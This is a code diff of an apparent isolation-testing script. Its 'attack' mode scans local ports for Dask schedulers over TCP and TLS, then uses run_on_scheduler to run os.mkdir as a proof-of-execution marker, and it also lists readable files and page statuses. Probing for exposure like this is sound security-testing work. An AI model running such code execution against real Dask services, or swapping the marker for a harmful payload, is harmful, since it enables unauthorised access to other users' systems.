@@ -5,6 +5,8 @@ REQUEST is JSON: `do` is "plant" or "attack". What he got is printed as JSON. No
 
 from __future__ import annotations
 
+import asyncio
+import contextlib
 import json
 import os
 import sys
@@ -35,10 +37,10 @@ def plant(folder: str, uid: int) -> None:
 
 
 def attack(ports: list[int], places: list[str], mark: str) -> dict[str, Any]:
-    """Everything at once: `ran` where code was run, `read` what could be read, `pages` with their status."""
+    """Everything at once: `ran` where Dask let us in, `read` what could be read, `pages` with their status."""
     return {
         "uid": os.getuid(),
-        "ran": [address for port in ports for address in _run_code(port, mark)],
+        "ran": _run_code(ports, mark),
         "read": [path for place in places for path in _readable(Path(place))],
         "pages": {f"{port}/{page}": status for port in ports for page, status in _pages(port)},
     }
@@ -52,20 +54,43 @@ def _pages(port: int) -> Iterator[tuple[str, int]]:
         yield page, status
 
 
-def _run_code(port: int, mark: str) -> Iterator[str]:
+async def _connected(addresses: list[tuple[str, Any]]) -> list[tuple[str, Any]]:
+    """Those that answer as a Dask server does, so that the next step would be to run code."""
+    from distributed.comm import connect
+
+    async def one(address: str, security: Any) -> bool:
+        try:
+            comm = await connect(
+                address, timeout=CONNECT_SECONDS, **security.get_connection_args("client"), deserialize=True
+            )
+        except Exception:  # whatever a refusal looks like
+            return False
+        comm.abort()
+        return True
+
+    # Dask's own timeout does not end all that it begins, and a cancellation not either.
+    tasks = [asyncio.create_task(one(*each)) for each in addresses]
+    await asyncio.wait(tasks, timeout=3 * CONNECT_SECONDS)
+    return [each for each, task in zip(addresses, tasks, strict=True) if task.done() and task.result()]
+
+
+def _run_code(ports: list[int], mark: str) -> list[str]:
+    """The addresses at which somebody ran what we sent, which leaves a mark, or at least let us in."""
     import distributed
     from distributed.security import Security
 
-    for protocol, security in (("tcp", None), ("tls", Security.temporary())):
-        address = f"{protocol}://127.0.0.1:{port}"
-        try:
-            with distributed.Client(
+    kinds = (("tcp", Security()), ("tls", Security.temporary()))
+    tries = [(f"{protocol}://127.0.0.1:{port}", security) for port in ports for protocol, security in kinds]
+    let_in = asyncio.new_event_loop().run_until_complete(_connected(tries))
+    for address, security in let_in:
+        with (
+            contextlib.suppress(Exception),  # a worker's port, not a scheduler's
+            distributed.Client(
                 address, security=security, timeout=CONNECT_SECONDS, set_as_default=False
-            ) as client:
-                client.run_on_scheduler(os.mkdir, mark)
-                yield address
-        except Exception:  # whatever a refusal looks like
-            continue
+            ) as client,
+        ):
+            client.run_on_scheduler(os.mkdir, mark)
+    return [address for address, _ in let_in]
 
 
 def _readable(place: Path) -> Iterator[str]:
